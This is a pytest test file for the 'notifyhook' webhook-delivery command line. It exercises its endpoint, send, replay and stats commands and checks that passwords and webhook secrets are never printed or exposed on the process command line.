"""The `notifyhook` command line against the test's database: `main` in process, as the console
script calls it, and a real process where only one shows (signals, buffering, exit status)."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import psycopg
import pytest
from conftest import add_endpoint, environment, run_cli, scalar, wait_until
from cryptography.fernet import Fernet
from psycopg.conninfo import make_conninfo
from test_worker import insert_events, statuses

from notifyhook import signing
from notifyhook.tools.cluster import free_port
from notifyhook.tools.receiver import Answer

COMMAND = [sys.executable, "-m", "notifyhook"]
run = run_cli


def ok(database_url: str, /, *args: str, **settings: str) -> str:
    result = run(database_url, *args, **settings)
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    return result.stdout


def one_line_error(result: subprocess.CompletedProcess[str], code: int) -> str:
    """Assert the process failed with `code` and one line on stderr, no traceback; return it."""
    assert result.returncode == code, (result.returncode, result.stdout, result.stderr)
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("notifyhook: ")
    assert "Traceback" not in result.stderr
    return lines[0]


def usage_error(result: subprocess.CompletedProcess[str]) -> str:
    """argparse's way: a usage line, then the error; exit 2."""
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert result.stderr.startswith("usage: notifyhook")
    assert "Traceback" not in result.stderr
    return result.stderr


def as_json_numbers(row: dict[str, Any]) -> dict[str, Any]:
    """A database row as `--json` prints it: numerics as numbers, times in ISO 8601."""
    return json.loads(
        json.dumps(row, default=lambda v: v.isoformat() if hasattr(v, "isoformat") else float(v))
    )


# -- help and usage ------------------------------------------------------------------

HELP = {
    (): "Webhook delivery straight out of PostgreSQL",
    ("migrate",): "Safe to run twice",
    ("worker",): "Deliver webhooks until SIGTERM",
    ("stats",): "queue_stats",
    ("endpoint",): "Manage endpoints",
    ("endpoint", "add"): "printed once",
    ("endpoint", "list"): "--tenant",
    ("endpoint", "show"): "ID",
    ("endpoint", "disable"): "--reason",
    ("endpoint", "enable"): "ID",
    ("endpoint", "rotate-secret"): "--grace",
    ("send",): "--idempotency-key",
    ("replay",): "--since",
    ("prune",): "NOTIFYHOOK_RETENTION",
    ("demo",): "usage: notifyhook demo",
    ("bench",): "usage: notifyhook bench",
}


@pytest.mark.parametrize("command", list(HELP), ids=lambda c: " ".join(c) or "notifyhook")
def test_help_exits_zero_and_explains(command):
    # No database: --help must not need one.
    result = run(None, *command, "--help")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(f"usage: notifyhook {' '.join(command)}".rstrip())
    assert HELP[command] in result.stdout


@pytest.mark.parametrize(
    "args",
    [
        [],
        ["bogus"],
        ["endpoint"],
        ["endpoint", "show", "abc"],
        ["endpoint", "rotate-secret", "1", "--grace", "soon"],
        ["replay"],
        ["replay", "--delivery", "1", "--all"],
        ["replay", "--all", "--since", "yesterday"],
        ["send", "--tenant", "t", "--type", "x", "--data", "[1, 2]"],
        ["send", "--tenant", "t", "--type", "x", "--data", "{not json"],
        ["stats", "--watch", "-1x"],
    ],
    ids=" ".join,
)
def test_bad_usage_exits_2(args):
    usage_error(run("postgresql://nobody@127.0.0.1:1/none", *args))


@pytest.mark.parametrize(
    ("args", "code"), [(["--help"], 0), (["stats"], 1), (["bogus"], 2)], ids=["0", "1", "2"]
)
def test_a_process_exits_and_prints_as_main_does_in_process(args, code):
    # The other tests run `notifyhook` in process (conftest.run_cli): what a process
    # does with main's answer, the exit status and the output, must be the same.
    url = f"postgresql://app:{PASSWORD}@127.0.0.1:{free_port()}/app"
    in_process = run(url, *args)
    real = run(url, *args, process=True)
    assert real.returncode == code
    assert (real.returncode, real.stdout, real.stderr) == (
        in_process.returncode,
        in_process.stdout,
        in_process.stderr,
    )


def test_in_process_output_is_the_commands_alone(database_url):
    # An in-process worker logging while a command runs in process wrote its lines into
    # the command's captured stderr (a test asserting a quiet command failed at random).
    stop = threading.Event()

    def chatter() -> None:
        while not stop.is_set():
            print("another thread's line", file=sys.stderr)
            time.sleep(0.001)

    other = threading.Thread(target=chatter)
    other.start()
    try:
        result = run(database_url, "stats")
    finally:
        stop.set()
        other.join()
    assert result.returncode == 0, result.stderr
    assert "another thread" not in result.stdout + result.stderr


def test_replay_since_with_one_delivery_is_bad_usage():
    # Refused before any connection is tried: the database here does not exist.
    result = run(
        "postgresql://nobody@127.0.0.1:1/none", "replay", "--delivery", "1", "--since", "2026-01-01"
    )
    assert "--since" in one_line_error(result, 2)


# -- settings and connection errors ----------------------------------------------------

PASSWORD = "pa55-never-printed"


@pytest.mark.parametrize(
    ("settings", "variable"),
    [
        ({"concurrency": "abc"}, "NOTIFYHOOK_CONCURRENCY"),
        ({"http_timeout": "90", "lease": "60"}, "NOTIFYHOOK_HTTP_TIMEOUT"),
        ({"retention": "soon"}, "NOTIFYHOOK_RETENTION"),
        ({"log_format": "xml"}, "NOTIFYHOOK_LOG_FORMAT"),
        (
            {"database_url": f"postgresql://app:{PASSWORD}@db:5432/app?nonsense=1"},
            "NOTIFYHOOK_DATABASE_URL",
        ),
    ],
    ids=lambda v: v if isinstance(v, str) else ",".join(v),
)
def test_a_wrong_setting_exits_2_naming_the_variable(settings, variable):
    result = run(f"postgresql://app:{PASSWORD}@127.0.0.1:1/app", "stats", **settings)
    assert variable in one_line_error(result, 2)
    assert PASSWORD not in result.stderr + result.stdout


def test_the_worker_refuses_a_wrong_setting_before_it_starts():
    url = f"postgresql://app:{PASSWORD}@127.0.0.1:1/app"
    result = run(url, "worker", process=True, http_timeout="90", lease="60")
    assert "NOTIFYHOOK_HTTP_TIMEOUT" in one_line_error(result, 2)


def test_a_missing_database_url_exits_2():
    line = one_line_error(run(None, "stats"), 2)
    assert "NOTIFYHOOK_DATABASE_URL is required" in line


@pytest.mark.parametrize("command", ["demo", "bench"])
def test_demo_and_bench_check_the_database_url_as_every_command_does(command):
    # They start their own PostgreSQL without a URL, so they read it themselves.
    result = run(f"postgresql://app:{PASSWORD}@[bad/app", command)
    assert "NOTIFYHOOK_DATABASE_URL: is not a valid libpq URL" in one_line_error(result, 2)
    assert PASSWORD not in result.stderr + result.stdout


def test_the_worker_refuses_a_malformed_sentry_dsn_before_it_starts():
    url = f"postgresql://app:{PASSWORD}@127.0.0.1:{free_port()}/app"
    result = run(url, "worker", process=True, sentry_dsn="not-a-dsn")
    assert "NOTIFYHOOK_SENTRY_DSN: is not a Sentry DSN" in one_line_error(result, 2)


def test_an_unknown_variable_is_warned_about_and_ignored():
    url = f"postgresql://app:{PASSWORD}@127.0.0.1:{free_port()}/app"
    result = run(url, "stats", concurency="5", test_database_url=url, cluster_user="postgres")
    assert result.returncode == 1, result.stderr
    warning, error = result.stderr.splitlines()
    assert warning.endswith(
        " WARNING notifyhook.settings: NOTIFYHOOK_CONCURENCY is not a notifyhook setting; "
        "ignored (did you mean NOTIFYHOOK_CONCURRENCY?)"
    )
    assert error.startswith("notifyhook: ")
    assert PASSWORD not in result.stderr


def test_migrate_keeps_a_payload_limit_set_in_sql_unless_told_otherwise(database_url, db):
    db.execute("UPDATE notifyhook.config SET max_payload_bytes = 500")
    ok(database_url, "migrate")
    assert scalar(db, "SELECT max_payload_bytes FROM notifyhook.config") == 500
    ok(database_url, "migrate", max_payload_bytes="300")
    assert scalar(db, "SELECT max_payload_bytes FROM notifyhook.config") == 300


def test_under_journald_log_lines_carry_no_date_of_their_own(tmp_path):
    # journald stamps every line; systemd names the stream in JOURNAL_STREAM.
    url = f"postgresql://app:{PASSWORD}@127.0.0.1:{free_port()}/app"
    log = tmp_path / "stderr"
    lines = {}
    for journal in (False, True):
        with log.open("w") as stderr:
            env = environment(url, concurency="5")
            if journal:
                status = os.fstat(stderr.fileno())
                env["JOURNAL_STREAM"] = f"{status.st_dev}:{status.st_ino}"
            subprocess.run([*COMMAND, "stats"], env=env, stderr=stderr, timeout=60, check=False)
        lines[journal] = log.read_text().splitlines()[0]
    assert lines[True] == (
        "WARNING notifyhook.settings: NOTIFYHOOK_CONCURENCY is not a notifyhook setting; "
        "ignored (did you mean NOTIFYHOOK_CONCURRENCY?)"
    )
    assert lines[False].endswith(" " + lines[True])
    assert lines[False][:4].isdigit()  # the date first


@pytest.mark.parametrize(
    "args",
    [
        ["migrate"],
        ["stats"],
        ["endpoint", "list"],
        ["endpoint", "add", "--tenant", "t", "--name", "n", "--url", "https://example.com/"],
        ["send", "--tenant", "t", "--type", "x", "--data", "{}"],
        ["replay", "--all"],
        ["prune"],
    ],
    ids=" ".join,
)
def test_an_unreachable_database_exits_1_without_the_password(args):
    port = free_port()
    urls = [f"postgresql://app:{PASSWORD}@127.0.0.1:{port}/app"]
    if args == ["stats"]:
        urls.append(f"host=127.0.0.1 port={port} user=app password={PASSWORD} dbname=app")
    for url in urls:
        started = time.monotonic()
        result = run(url, *args)
        assert "connect" in one_line_error(result, 1).lower()
        assert PASSWORD not in result.stderr + result.stdout
        # Refused at once, not after a pool's retries.
        assert time.monotonic() - started < 8


def test_the_worker_never_logs_the_password_while_it_waits_for_the_database(start_worker):
    worker = start_worker(f"postgresql://app:{PASSWORD}@127.0.0.1:{free_port()}/app")
    wait_until(lambda: worker.log().count("Connection refused") >= 2, what="two tries")
    assert PASSWORD not in worker.log()


# -- stats -----------------------------------------------------------------------------


def test_stats_match_the_database(db, database_url, receiver, run_worker):
    receiver.sequence("strict", Answer(status=400))
    add_endpoint(db, "t", "ok", receiver.url("ok"), event_types="{call.*}")
    add_endpoint(db, "t", "strict", receiver.url("strict"), event_types="{call.failed}")
    add_endpoint(db, "t", "paused", receiver.url("paused"), event_types="{job.*}", enabled=False)
    worker = run_worker()
    insert_events(db, "t", 4, "call.completed")
    insert_events(db, "t", 2, "call.failed")
    worker.wait_recorded(lambda: statuses(db) == {"delivered": 6, "dead": 2}, what="the outcomes")
    worker.stop()  # SIGTERM's way: nothing leased is left behind
    insert_events(db, "t", 3, "job.done")

    printed = json.loads(ok(database_url, "stats", "--json"))
    queue = db.execute("SELECT * FROM notifyhook.queue_stats").fetchone()
    columns = [
        c.name for c in db.execute("SELECT * FROM notifyhook.queue_stats LIMIT 0").description
    ]
    expected_queue = as_json_numbers(dict(zip(columns, queue, strict=True)))
    assert printed["queue"] == expected_queue
    assert printed["queue"]["delivered_total"] == 6
    # The paused endpoint's backlog is kept apart from what is due.
    assert printed["queue"]["pending_due"] == 0
    assert printed["queue"]["pending_paused"] == 3
    assert printed["queue"]["oldest_due_age_s"] is None
    with db.cursor() as cursor:
        cursor.execute("SELECT * FROM notifyhook.endpoint_stats ORDER BY endpoint_id")
        names = [c.name for c in cursor.description]
        expected = [as_json_numbers(dict(zip(names, row, strict=True))) for row in cursor]
    assert printed["endpoints"] == expected
    assert [e["pending"] for e in printed["endpoints"]] == [0, 0, 3]

    table = ok(database_url, "stats")
    assert "pending_due" in table
    assert "delivered_total" in table
    assert "success_rate_24h" in table
    for name in ("ok", "strict", "paused"):
        assert f"| {name} " in table


@pytest.mark.parametrize(
    ("command", "code", "settings"),
    # The dashboard stopped, after the warning, by a token too short to serve with.
    [("stats", 0, {}), ("dashboard", 2, {"dashboard_token": "short"})],
    ids=["stats", "dashboard"],
)
def test_a_password_on_the_command_line_is_warned_about_and_never_shown(
    database_url, command, code, settings
):
    # The dashboard runs for days, and `stats --watch` for as long as someone watches:
    # its command line, password included, is readable by every user of the host.
    url = make_conninfo(database_url, password=PASSWORD)
    result = run(None, command, "--database-url", url, **settings)
    assert result.returncode == code, result.stderr
    assert "--database-url holds a password" in result.stderr
    assert "PGPASSWORD" in result.stderr
    assert PASSWORD not in result.stderr
    # Without a password, nothing to warn of.
    assert ok(None, "stats", "--database-url", database_url)


def test_stats_watch_prints_each_round_as_it_comes_until_interrupted(database_url, tmp_path):
    out, err = tmp_path / "stats.out", tmp_path / "stats.err"
    with out.open("w") as stdout, err.open("w") as stderr:
        process = subprocess.Popen(
            [*COMMAND, "stats", "--watch", "0.5"],
            env=environment(database_url),
            stdout=stdout,
            stderr=stderr,
        )
        try:
            # A file is block-buffered like a pipe: unflushed, rounds would show
            # only by the dozen, once 8 KiB of them have piled up.
            rounds = wait_until(lambda: out.read_text().count("pending_due"), what="a round")
            assert rounds <= 2
            wait_until(lambda: out.read_text().count("pending_due") >= 3, what="more rounds")
            process.send_signal(signal.SIGINT)
            assert process.wait(10) == 130
        finally:
            process.kill()
            process.wait(10)
    assert err.read_text() == ""


# -- endpoint --------------------------------------------------------------------------


def endpoint_row(db, endpoint_id: int) -> dict[str, Any]:
    with db.cursor() as cursor:
        cursor.execute("SELECT * FROM notifyhook.endpoints WHERE id = %s", [endpoint_id])
        names = [c.name for c in cursor.description]
        row = cursor.fetchone()
    return dict(zip(names, row, strict=True))


def added(stdout: str) -> tuple[int, str]:
    """The endpoint id and secret `endpoint add` printed."""
    first, second, *_ = stdout.splitlines()
    assert first.startswith("endpoint "), stdout
    assert first.endswith(" added"), stdout
    assert second.startswith("secret: whsec_"), stdout
    return int(first.split()[1]), second.removeprefix("secret: ")


def added_given(stdout: str) -> int:
    """The endpoint id `endpoint add` printed when given its secret, which it does not print."""
    first, second, *rest = stdout.splitlines()
    assert first.startswith("endpoint "), stdout
    assert first.endswith(" added"), stdout
    assert (second, rest) == ("secret: the one given (not shown)", []), stdout
    return int(first.split()[1])


def add_through_cli(database_url: str, name: str, url: str) -> tuple[int, str]:
    """`endpoint add` for tenant t through the console script: (id, secret)."""
    return added(ok(database_url, "endpoint", "add", "--tenant", "t", "--name", name, "--url", url))


def test_endpoint_add_prints_the_secret_once_and_list_and_show_never(db, database_url):
    stdout = ok(
        database_url,
        "endpoint", "add", "--tenant", "acme", "--name", "crm", "--url", "https://crm.example/hook",
        "--event-types", "call.*, job.done", "--extra-fields", '{"source": "nh"}',
        "--headers", "-", "--rate-limit", "20", "--max-in-flight", "5",
        "--timeout-ms", "3000", stdin='{"X-Token": "t"}',
    )  # fmt: skip
    endpoint_id, secret = added(stdout)
    assert stdout.count(secret) == 1
    row = endpoint_row(db, endpoint_id)
    assert row["secret"] == secret
    assert row["event_types"] == ["call.*", "job.done"]
    assert (row["extra_fields"], row["headers"]) == ({"source": "nh"}, {"X-Token": "t"})
    assert (row["rate_limit"], row["max_in_flight"], row["timeout_ms"]) == (20, 5, 3000)

    listing = ok(database_url, "endpoint", "list")
    assert "crm" in listing
    assert "https://crm.example/hook" in listing
    listed = json.loads(ok(database_url, "endpoint", "list", "--json", "--tenant", "acme"))
    assert [e["id"] for e in listed] == [endpoint_id]
    assert json.loads(ok(database_url, "endpoint", "list", "--json", "--tenant", "other")) == []
    shown = json.loads(ok(database_url, "endpoint", "show", str(endpoint_id), "--json"))
    assert (shown["name"], shown["enabled"], shown["consecutive_failures"]) == ("crm", True, 0)
    text = ok(database_url, "endpoint", "show", str(endpoint_id))
    assert "https://crm.example/hook" in text
    for output in (listing, json.dumps(listed), json.dumps(shown), text):
        assert secret.removeprefix("whsec_") not in output

    duplicate = run(database_url, "endpoint", "add", "--tenant", "acme", "--name", "crm",
                    "--url", "https://crm.example/other")  # fmt: skip
    assert "crm" in one_line_error(duplicate, 1)


def test_endpoint_add_with_a_secret_key_stores_it_encrypted(db, database_url):
    key = Fernet.generate_key().decode()
    stdout = ok(
        database_url,
        "endpoint", "add", "--tenant", "t", "--name", "n", "--url", "https://example.com/",
        secret_key=key,
    )  # fmt: skip
    endpoint_id, secret = added(stdout)
    stored = endpoint_row(db, endpoint_id)["secret"]
    assert stored.startswith("enc:")
    assert Fernet(key.encode()).decrypt(stored.removeprefix("enc:").encode()).decode() == secret


@pytest.mark.parametrize("with_key", [False, True], ids=["plain", "secret key"])
def test_endpoint_add_refuses_a_malformed_secret_with_or_without_a_secret_key(
    db, database_url, with_key
):
    # With a key the database sees only the encrypted form: the CLI must check first.
    settings = {"secret_key": Fernet.generate_key().decode()} if with_key else {}
    for secret, problem in [
        ("BOGUS", "must start with 'whsec_'"),
        ("whsec_not*base64", "followed by standard base64"),
        ("whsec_c2hvcnQ=", "must encode 24 to 64 bytes"),
    ]:
        result = run(
            database_url,
            "endpoint", "add", "--tenant", "t", "--name", "n", "--url", "https://example.com/",
            "--secret", secret,
            **settings,
        )  # fmt: skip
        line = one_line_error(result, 2)
        assert line.startswith("notifyhook: --secret: a webhook secret ")
        assert problem in line
        assert secret not in line
    assert scalar(db, "SELECT count(*) FROM notifyhook.endpoints") == 0


def adding(name: str = "n") -> tuple[str, ...]:
    """`endpoint add` of an endpoint of tenant t called `name`, its other options to come."""
    return ("endpoint", "add", "--tenant", "t", "--name", name, "--url", "https://crm.example/hook")


ADD = adding()


def test_endpoint_add_does_not_need_the_secret_on_its_command_line(db, database_url, tmp_path):
    # A command line is readable by every user of the host (/proc/PID/cmdline, ps):
    # `--secret -` reads the secret from standard input instead. The table is held so
    # that the command waits where an operator's would, mid-run, while its command line
    # is read.
    secret = signing.generate_secret()
    (tmp_path / "secret").write_text(secret + "\n")
    with psycopg.connect(database_url) as holder, (tmp_path / "secret").open() as stdin:
        holder.execute("LOCK TABLE notifyhook.endpoints IN ACCESS EXCLUSIVE MODE")
        process = subprocess.Popen(
            [*COMMAND, *ADD, "--secret", "-"],
            env=environment(database_url),
            stdin=stdin,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        try:
            wait_until(
                lambda: scalar(
                    db,
                    "SELECT count(*) FROM pg_locks WHERE NOT granted "
                    "AND relation = 'notifyhook.endpoints'::regclass",
                ),
                what="the command to wait on the table",
            )
            cmdline = Path(f"/proc/{process.pid}/cmdline").read_bytes().decode()
        finally:
            holder.rollback()
            stdout, stderr = process.communicate(timeout=60)
    assert secret not in cmdline, cmdline.replace("\0", " ")
    assert (process.returncode, stderr) == (0, "")
    assert secret.removeprefix("whsec_") not in stdout
    assert endpoint_row(db, added_given(stdout))["secret"] == secret


def test_endpoint_add_reads_its_secret_and_headers_from_files_or_standard_input(
    db, database_url, tmp_path
):
    secret = signing.generate_secret()
    headers = {"Authorization": "Bearer partner-token", "X-Source": "nh"}
    (tmp_path / "secret").write_text(secret + "\n")
    (tmp_path / "headers.json").write_text(json.dumps(headers, indent=2) + "\n")
    for number, (stdin, options) in enumerate([
        (json.dumps(headers), ["--secret-file", str(tmp_path / "secret"), "--headers", "-"]),
        (secret + "\n", ["--secret", "-", "--headers-file", str(tmp_path / "headers.json")]),
        (secret, ["--secret-file", "-", "--headers-file", str(tmp_path / "headers.json")]),
    ]):  # fmt: skip
        stdout = ok(database_url, *adding(f"n{number}"), *options, stdin=stdin)
        assert secret.removeprefix("whsec_") not in stdout
        row = endpoint_row(db, added_given(stdout))
        assert (row["secret"], row["headers"]) == (secret, headers)

    # Sealed with NOTIFYHOOK_SECRET_KEY like a secret given any other way.
    key = Fernet.generate_key().decode()
    stdout = ok(database_url, *adding("sealed"), "--secret", "-", stdin=secret, secret_key=key)
    stored = endpoint_row(db, added_given(stdout))["secret"]
    assert Fernet(key.encode()).decrypt(stored.removeprefix("enc:").encode()).decode() == secret


def test_endpoint_add_reads_its_url_from_standard_input_or_a_file(db, database_url, tmp_path):
    # A URL whose path or query holds a token: on the command line every user of the host
    # reads it (ps, /proc/PID/cmdline), and is warned of it (review s12-rev2).
    url = "https://hooks.example.com/in/T0K3N-abcdef0123456789?sig=f00dfeed1234"
    (tmp_path / "url").write_text(url + "\n")
    base = ("endpoint", "add", "--tenant", "t")
    for number, (stdin, options) in enumerate([
        (url + "\n", ["--url", "-"]),
        (None, ["--url-file", str(tmp_path / "url")]),
    ]):  # fmt: skip
        extra = {"stdin": stdin} if stdin else {}
        stdout = ok(database_url, *base, "--name", f"u{number}", *options, **extra)
        endpoint, _ = added(stdout)
        assert endpoint_row(db, endpoint)["url"] == url
    result = run(database_url, *base, "--name", "argv", "--url", url)
    assert result.returncode == 0, result.stderr
    [warning] = result.stderr.splitlines()
    assert "--url -" in warning
    assert "T0K3N" not in warning
    plain = run(database_url, *base, "--name", "plain", "--url", "https://crm.example/hook")
    assert (plain.returncode, plain.stderr) == (0, "")
    both = run(database_url, *base, "--name", "both", "--url", "-", "--secret", "-", stdin=url)
    assert both.returncode == 2
    assert "cannot both read standard input" in both.stderr


def test_extra_fields_and_a_payload_can_be_given_off_the_command_line(db, database_url, tmp_path):
    # Extra fields go into every body of an endpoint (a partner's account key, say) and a
    # payload may hold anything: like --headers, both read - or a file (review s12).
    extra = {"account": "acct-7f3e", "source": "nh"}
    (tmp_path / "extra.json").write_text(json.dumps(extra))
    stdout = ok(database_url, *adding("f"), "--extra-fields-file", str(tmp_path / "extra.json"))
    assert endpoint_row(db, added(stdout)[0])["extra_fields"] == extra
    stdout = ok(database_url, *adding("s"), "--extra-fields", "-", stdin=json.dumps(extra))
    assert endpoint_row(db, added(stdout)[0])["extra_fields"] == extra
    assert endpoint_row(db, added(ok(database_url, *adding("none")))[0])["extra_fields"] == {}

    payload = {"call": 42, "note": "from stdin"}
    sent = ok(database_url, "send", "--tenant", "t", "--type", "x", "--data", "-",
              stdin=json.dumps(payload)).strip()  # fmt: skip
    (tmp_path / "payload.json").write_text(json.dumps({"call": 43}))
    from_file = ok(database_url, "send", "--tenant", "t", "--type", "x",
                   "--data-file", str(tmp_path / "payload.json")).strip()  # fmt: skip
    stored = dict(db.execute("SELECT id::text, payload FROM notifyhook.events").fetchall())
    assert stored == {sent: payload, from_file: {"call": 43}}
    refused = run(database_url, "send", "--tenant", "t", "--type", "x", "--data", "-",
                  stdin="[1, 2]")  # fmt: skip
    assert refused.returncode == 2
    assert "--data: must be a JSON object" in refused.stderr


def test_a_secret_or_a_credential_header_on_the_command_line_still_works_with_a_warning(
    db, database_url
):
    # Scripts written before --secret - keep working; the operator learns of the risk.
    secret = signing.generate_secret()
    result = run(database_url, *ADD, "--secret", secret,
                 "--headers", '{"authorization": "Bearer partner-token", "X-Source": "nh"}')  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert endpoint_row(db, added_given(result.stdout))["secret"] == secret
    assert secret.removeprefix("whsec_") not in result.stdout
    warnings = result.stderr.splitlines()
    assert len(warnings) == 2, result.stderr
    assert "WARNING" in warnings[0]
    assert "--secret -" in warnings[0]
    assert "--secret-file" in warnings[0]
    assert "holds authorization;" in warnings[1]
    assert "--headers -" in warnings[1]
    assert "--headers-file" in warnings[1]
    for never in (secret.removeprefix("whsec_"), "partner-token"):
        assert never not in result.stderr
    # Headers that hold no credential are no reason for a warning.
    ok(database_url, *adding("plain"), "--headers", '{"X-Source": "nh"}')


@pytest.mark.parametrize(
    ("options", "stdin", "complaint"),
    [
        (["--secret", "-"], "", "--secret -: standard input is empty"),
        (["--secret", "-"], " \n", "--secret -: standard input is empty"),
        (["--headers", "-"], "", "--headers -: standard input is empty"),
        (["--secret", "-", "--headers", "-"], "{}",
         "--secret and --headers cannot both read standard input"),
        (["--secret-file", "-", "--headers-file", "-"], "{}",
         "--secret and --headers cannot both read standard input"),
        (["--secret-file", "{missing}"], "", "--secret-file: cannot read {missing}: No such file"),
        (["--secret-file", "{directory}"], "", "--secret-file: cannot read {directory}: Is a directory"),
        (["--headers-file", "{empty}"], "", "--headers-file: {empty} is empty"),
        (["--headers-file", "{binary}"], "", "--headers-file: {binary} is not UTF-8 text"),
        (["--headers", "-"], "[1, 2]", "--headers: must be a JSON object"),
        (["--headers-file", "{secret}"], "", "--headers: not valid JSON"),
        (["--secret", "-"], "whsec_c2hvcnQ=", "--secret: a webhook secret "),
    ],
    ids=["empty stdin", "blank stdin", "empty stdin for headers", "two on stdin", "two files on stdin",
         "missing file", "a directory", "empty file", "not UTF-8", "not an object", "not JSON",
         "malformed secret"],
)  # fmt: skip
def test_a_secret_or_headers_that_cannot_be_read_exit_2_naming_the_option(
    db, database_url, tmp_path, options, stdin, complaint
):
    places = {"missing": tmp_path / "missing", "directory": tmp_path, "empty": tmp_path / "empty",
              "binary": tmp_path / "binary", "secret": tmp_path / "secret"}  # fmt: skip
    places["empty"].write_text("\n")
    places["binary"].write_bytes(b"\xff\xfe{}")
    places["secret"].write_text("whsec_c2hvcnQ=")
    paths = {name: str(path) for name, path in places.items()}
    result = run(database_url, *ADD, *(o.format(**paths) for o in options), stdin=stdin)
    line = one_line_error(result, 2)
    assert complaint.format(**paths) in line
    assert "c2hvcnQ" not in line
    assert scalar(db, "SELECT count(*) FROM notifyhook.endpoints") == 0


@pytest.mark.parametrize("both", [["--secret", "-", "--secret-file", "f"],
                                  ["--headers", "{}", "--headers-file", "f"]], ids=" ".join)  # fmt: skip
def test_a_value_and_its_file_at_once_is_bad_usage(both):
    assert "not allowed with argument" in usage_error(run(None, *ADD, *both))


def test_endpoint_add_help_shows_the_ways_in_that_are_not_the_command_line():
    text = " ".join(ok(None, "endpoint", "add", "--help").split())
    for way in ("--secret-file PATH", "--headers-file PATH", "standard input", "every user"):
        assert way in text


def test_endpoint_commands_on_a_missing_endpoint_exit_1(database_url):
    for action in ("show", "disable", "enable", "rotate-secret"):
        line = one_line_error(run(database_url, "endpoint", action, "999"), 1)
        assert "no endpoint 999" in line


def test_disable_keeps_deliveries_pending_and_enable_sends_them(
    db, database_url, receiver, run_worker
):
    endpoint_id, _ = add_through_cli(database_url, "paused", receiver.url("paused"))
    add_endpoint(db, "t", "live", receiver.url("live"))
    stdout = ok(database_url, "endpoint", "disable", str(endpoint_id), "--reason", "maintenance")
    assert stdout.strip() == f"endpoint {endpoint_id} disabled"
    row = endpoint_row(db, endpoint_id)
    assert (row["enabled"], row["disabled_reason"]) == (False, "maintenance")

    worker = run_worker()
    ok(database_url, "send", "--tenant", "t", "--type", "call.completed", "--data", '{"n": 1}')
    worker.wait_recorded(lambda: receiver.received("live"), what="the live endpoint's delivery")
    worker.wait_recorded(lambda: statuses(db) == {"delivered": 1, "pending": 1}, what="the outcome")
    assert (
        scalar(
            db, "SELECT attempts FROM notifyhook.deliveries WHERE endpoint_id = %s", [endpoint_id]
        )
        == 0
    )
    assert receiver.received("paused") == []

    assert (
        ok(database_url, "endpoint", "enable", str(endpoint_id)).strip()
        == f"endpoint {endpoint_id} enabled"
    )
    worker.wait_recorded(lambda: statuses(db) == {"delivered": 2}, what="the waiting delivery")
    assert endpoint_row(db, endpoint_id)["disabled_reason"] is None


def test_rotate_secret_keeps_the_old_one_for_the_grace(db, database_url):
    endpoint_id, old = add_through_cli(database_url, "n", "https://example.com/")
    stdout = ok(database_url, "endpoint", "rotate-secret", str(endpoint_id), "--grace", "2h")
    new = next(line for line in stdout.splitlines() if line.startswith("secret: ")).removeprefix(
        "secret: "
    )
    assert new.startswith("whsec_")
    assert new != old
    assert old not in stdout
    row = endpoint_row(db, endpoint_id)
    assert (row["secret"], row["previous_secret"]) == (new, old)
    expected = datetime.now(UTC) + timedelta(hours=2)
    assert abs((row["previous_secret_expires_at"] - expected).total_seconds()) < 30


# -- send ------------------------------------------------------------------------------


def test_send_prints_the_event_id_and_honours_the_idempotency_key(db, database_url):
    add_endpoint(db, "t", "a", "https://example.com/a")
    event_id = ok(
        database_url, "send", "--tenant", "t", "--type", "call.completed", "--data", '{"n": 1}'
    ).strip()
    assert scalar(db, "SELECT payload FROM notifyhook.events WHERE id = %s", [event_id]) == {"n": 1}
    assert statuses(db) == {"pending": 1}

    args = [
        "send",
        "--tenant",
        "t",
        "--type",
        "call.completed",
        "--data",
        '{"n": 2}',
        "--idempotency-key",
        "k1",
    ]
    first = ok(database_url, *args).strip()
    assert ok(database_url, *args).strip() == first
    assert first != event_id
    assert scalar(db, "SELECT count(*) FROM notifyhook.events") == 2

    wrong = run(database_url, "send", "--tenant", "t", "--type", "", "--data", "{}")
    # The database's own words, without the PL/pgSQL CONTEXT behind them.
    assert one_line_error(wrong, 1) == "notifyhook: events.event_type must not be empty"


# -- replay ----------------------------------------------------------------------------


def make_dead(db, endpoint_id: int, count: int, died_ago: timedelta = timedelta(0)) -> list[int]:
    """`count` deliveries to the endpoint, dead `died_ago`: as if their retries ran out."""
    tenant = scalar(db, "SELECT tenant_id FROM notifyhook.endpoints WHERE id = %s", [endpoint_id])
    # The day partition the dead rows go to (migrate makes them from today on).
    db.execute("SELECT notifyhook.create_partitions(since => now() - %s)", [died_ago])
    ids = []
    for _ in range(count):
        event_id = scalar(
            db, "SELECT notifyhook.enqueue(%s, 'x', '{}', NULL, %s)", [tenant, endpoint_id]
        )
        ids.append(scalar(
            db,
            "UPDATE notifyhook.deliveries SET status = 'dead', attempts = 3, last_error = 'HTTP 500', "
            "updated_at = now() - %s WHERE event_id = %s RETURNING id",
            [died_ago, event_id],
        ))  # fmt: skip
    return ids


def test_replay_one_delivery_an_endpoint_since_a_time_or_all(db, database_url):
    a = add_endpoint(db, "t", "a", "https://example.com/a")
    b = add_endpoint(db, "t", "b", "https://example.com/b")
    first, *_rest_a = make_dead(db, a, 3)
    (old_b,) = make_dead(db, b, 1, died_ago=timedelta(days=2))
    (new_b,) = make_dead(db, b, 1)

    assert (
        ok(database_url, "replay", "--delivery", str(first)).strip() == "replayed 1 dead delivery"
    )
    assert db.execute(
        "SELECT status, attempts FROM notifyhook.deliveries WHERE id = %s", [first]
    ).fetchone() == ("pending", 0)
    again = run(database_url, "replay", "--delivery", str(first))
    assert f"delivery {first} is not dead" in one_line_error(again, 1)

    since = (datetime.now(UTC) - timedelta(days=1)).isoformat()
    assert (
        ok(database_url, "replay", "--endpoint", str(b), "--since", since).strip()
        == "replayed 1 dead delivery"
    )
    assert (
        scalar(db, "SELECT status FROM notifyhook.deliveries WHERE id = %s", [new_b]) == "pending"
    )
    assert scalar(db, "SELECT status FROM notifyhook.deliveries WHERE id = %s", [old_b]) == "dead"

    assert ok(database_url, "replay", "--all").strip() == "replayed 3 dead deliveries"
    assert statuses(db) == {"pending": 5}
